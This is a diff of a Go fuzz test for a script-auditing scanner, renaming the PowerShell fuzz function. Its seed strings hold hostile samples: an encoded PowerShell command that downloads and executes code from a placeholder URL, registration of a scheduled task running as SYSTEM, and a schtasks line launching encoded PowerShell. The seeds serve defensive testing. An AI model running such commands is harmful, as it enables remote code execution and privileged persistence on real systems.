@@ -36,9 +36,9 @@ func FuzzScanRuby(f *testing.F) {
 	})
 }
 
-// FuzzScanPowerShell: no PowerShell text stops the audit, encoded
+// FuzzScanPowerShellEncoded: no PowerShell text stops the audit, encoded
 // commands nested in encoded commands included.
-func FuzzScanPowerShell(f *testing.F) {
+func FuzzScanPowerShellEncoded(f *testing.F) {
 	for _, s := range []string{
 		"$a.Arguments = '-NoP -Enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgAKQA='\n$s.GetFolder('\\').RegisterTaskDefinition('x', $d, 6, 'SYSTEM', $null, 5)\n",
 		"schtasks /create /tr \"powershell -e AAAAAAAAAAAAAAAAAAAAAA==\"\n",
